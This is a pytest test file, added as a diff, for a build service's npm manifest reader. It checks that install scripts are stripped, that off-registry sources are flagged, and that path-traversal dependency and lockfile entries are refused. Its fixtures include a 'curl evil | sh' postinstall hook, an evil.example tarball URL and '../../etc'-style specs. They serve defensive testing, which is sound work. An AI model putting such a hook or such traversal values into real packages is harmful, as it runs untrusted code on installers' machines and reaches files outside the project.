@@ -1,0 +1,100 @@
+"""Node projects: what is handed to npm is written anew, and nothing in it leads out of the folder."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from builderd.adapters.installers.package_json import NodePackages, read_packages
+from builderd.domain.bundles import BundleFile, make_bundle
+from builderd.domain.errors import InstallFailed
+
+REGISTRY = "https://registry.npmjs.org/"
+
+
+def read(package: Any, lock: Any = None, **files: str) -> NodePackages | None:
+    given = [BundleFile("package.json", json.dumps(package).encode())]
+    if lock is not None:
+        given.append(BundleFile("package-lock.json", json.dumps(lock).encode()))
+    given += [BundleFile(name, text.encode()) for name, text in files.items()]
+    return read_packages(make_bundle(given), None)
+
+
+def lock(**packages: Any) -> dict[str, Any]:
+    return {"lockfileVersion": 3, "packages": {"": {}, **packages}}
+
+
+def test_scripts_and_configuration_do_not_reach_npm() -> None:
+    found = read(
+        {"name": "x", "scripts": {"postinstall": "curl evil | sh"}, "config": {}, "dependencies": {"express": "^4"}}
+    )
+    assert found is not None
+    assert json.loads(found.manifest) == {
+        "name": "app",
+        "version": "0.0.0",
+        "private": True,
+        "dependencies": {"express": "^4"},
+    }
+    assert (found.lock, found.foreign) == (None, False)
+
+
+@pytest.mark.parametrize("package", [{}, {"devDependencies": {"jest": "1"}}, {"dependencies": {}}, {"type": "module"}])
+def test_what_asks_for_nothing_gets_nothing(package: Any) -> None:
+    assert read(package) is None
+
+
+@pytest.mark.parametrize("spec", ["^4.18.0", ">=1 <2", "latest", "*", "", "1.2.3 - 2", "npm:@other/name@^2"])
+def test_versions_of_the_registry_are_shared(spec: str) -> None:
+    found = read({"dependencies": {"a": spec}})
+    assert found is not None
+    assert not found.foreign
+
+
+@pytest.mark.parametrize("spec", ["https://x.example/a.tgz", "git+https://x.example/a", "github:a/b", "a/b#main"])
+def test_code_from_elsewhere_is_the_tenants_own(spec: str) -> None:
+    found = read({"dependencies": {"a": spec}})
+    assert found is not None
+    assert found.foreign
+
+
+def test_a_lock_that_fetches_from_elsewhere_is_the_tenants_own() -> None:
+    near, far = {"resolved": f"{REGISTRY}a/-/a-1.tgz"}, {"resolved": "https://evil.example/a.tgz"}
+    kept = [read({"dependencies": {"a": "1"}}, lock(**{"node_modules/a": one})) for one in (near, far)]
+    assert [one and one.foreign for one in kept] == [False, True]
+
+
+@pytest.mark.parametrize(
+    ("package", "locked", "why"),
+    [
+        ([], None, "JSON object"),
+        ({"workspaces": ["a"], "dependencies": {"a": "1"}}, None, "workspaces"),
+        ({"dependencies": ["a"]}, None, "must be an object"),
+        ({"dependencies": {"../a": "1"}}, None, "no name of a package"),
+        ({"dependencies": {"a": "file:../../etc"}}, None, "is refused"),
+        ({"dependencies": {"a": "link:/etc"}}, None, "is refused"),
+        ({"dependencies": {"a": "../x"}}, None, "is refused"),
+        ({"dependencies": {"a": "http://plain.example/a.tgz"}}, None, "is refused"),
+        ({"dependencies": {"a": "git+ssh://x"}}, None, "is refused"),
+        ({"dependencies": {"a": 1}}, None, "is refused"),
+        ({"dependencies": {"a": "1"}}, lock(**{"../cache/x": {}}), "outside of node_modules"),
+        ({"dependencies": {"a": "1"}}, lock(**{"node_modules/../../cache": {}}), "outside of node_modules"),
+        ({"dependencies": {"a": "1"}}, lock(**{"node_modules/a/../b": {}}), "outside of node_modules"),
+        ({"dependencies": {"a": "1"}}, lock(**{"/etc": {}}), "outside of node_modules"),
+        ({"dependencies": {"a": "1"}}, lock(**{"node_modules/a": {"link": True}}), "from a folder"),
+        ({"dependencies": {"a": "1"}}, lock(**{"node_modules/a": {"resolved": "file:x"}}), "from a folder"),
+        ({"dependencies": {"a": "1"}}, {"packages": []}, "damaged"),
+        ({"dependencies": {"a": "1"}}, {"dependencies": {"../x": {}}}, "no name"),
+        ({"dependencies": {"a": "1"}}, {"dependencies": {"a": {"version": "file:../x"}}}, "from a folder"),
+    ],
+)
+def test_what_would_lead_elsewhere_is_refused(package: Any, locked: Any, why: str) -> None:
+    with pytest.raises(InstallFailed, match=why):
+        read(package, locked)
+
+
+def test_what_is_no_json_is_told() -> None:
+    for text in (b"{", b"\xff", b"[" * 100_000):
+        with pytest.raises(InstallFailed, match=r"package\.json"):
+            read_packages(make_bundle([BundleFile("package.json", text)]), None)
